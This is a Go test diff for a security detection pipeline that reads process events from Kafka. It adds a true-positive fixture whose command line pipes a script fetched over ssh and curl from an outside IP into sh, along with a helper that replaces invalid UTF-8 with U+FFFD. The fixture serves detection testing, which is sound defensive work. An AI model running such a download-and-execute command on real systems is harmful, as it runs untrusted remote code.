@@ -8,6 +8,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"github.com/twmb/franz-go/pkg/kgo"
 
@@ -47,6 +48,14 @@ func TestHostileInput(t *testing.T) {
 				cmd: "/usr/bin/true", pid: 7, ppid: 1, at: time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC)}),
 		}
 		wantReasons := map[string]int{consumer.DLQReasonDecode: 2, consumer.DLQReasonFuture: 1}
+		// A true positive whose command line is not valid UTF-8: detected,
+		// and written with each invalid byte as U+FFFD (Avro strings are
+		// UTF-8; readers would reject the topic otherwise).
+		invalid := genEvent{host: "utf8-victim.corp.example", user: "root", parentImage: "/usr/bin/bash", image: "/usr/bin/ssh",
+			cmd: "ssh -oBatchMode=yes 10.0.0.9 curl http://203.0.113.9/\xff\xfex.sh | sh", pid: 777, ppid: 77,
+			at: streamStart.Add(10 * time.Minute), positive: true}
+		hostile = append(hostile, sysmonLine(invalid))
+		g.add(invalid)
 		var mixed [][]byte
 		for i, l := range lines {
 			mixed = append(mixed, l)
@@ -68,10 +77,13 @@ func TestHostileInput(t *testing.T) {
 		produceClosers(t, b, tp, g)
 
 		rows := g.rows()
+		for i := range rows {
+			rows[i].Process = sanitized(rows[i].Process)
+		}
 		requireFinal(t, b, tp.output, rows, 2*time.Second, 90*time.Second, false, "with hostile input")
-		dl := readDeadLetters(t, b, tp.dlq, len(hostile))
-		if len(dl) != len(hostile) {
-			t.Fatalf("dead letters: got %d, want %d", len(dl), len(hostile))
+		dl := readDeadLetters(t, b, tp.dlq, len(hostile)-1)
+		if len(dl) != len(hostile)-1 {
+			t.Fatalf("dead letters: got %d, want %d", len(dl), len(hostile)-1)
 		}
 		gotReasons := map[string]int{}
 		for _, r := range dl {
@@ -97,7 +109,7 @@ func TestHostileInput(t *testing.T) {
 			t.Errorf("dead-letter reasons %v, want %v", gotReasons, wantReasons)
 		}
 		st := in.p.Stats()
-		if got := sumMap(st.DeadLettered); got != int64(len(hostile)) {
+		if got := sumMap(st.DeadLettered); got != int64(len(hostile)-1) {
 			t.Errorf("dead-letter counter %d, want %d", got, len(hostile))
 		}
 		report := fmt.Sprintf("hostile %s: rows=%d found=%d missing=0 dead_letters=%d (%v) dlq_failures=%d", b.Name(), len(rows), len(rows), len(dl), gotReasons, st.DeadLetterFailures)
@@ -138,4 +150,20 @@ func TestDeadLetterRejected(t *testing.T) {
 			t.Errorf("dead-letter failures %d, want 1", st.DeadLetterFailures)
 		}
 	})
+}
+
+// sanitized is s with each byte that is not part of valid UTF-8 replaced by
+// U+FFFD, as the risk-record encoder writes strings.
+func sanitized(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); {
+		r, n := utf8.DecodeRuneInString(s[i:])
+		if r == utf8.RuneError && n == 1 {
+			b.WriteString("\uFFFD")
+		} else {
+			b.WriteString(s[i : i+n])
+		}
+		i += n
+	}
+	return b.String()
 }
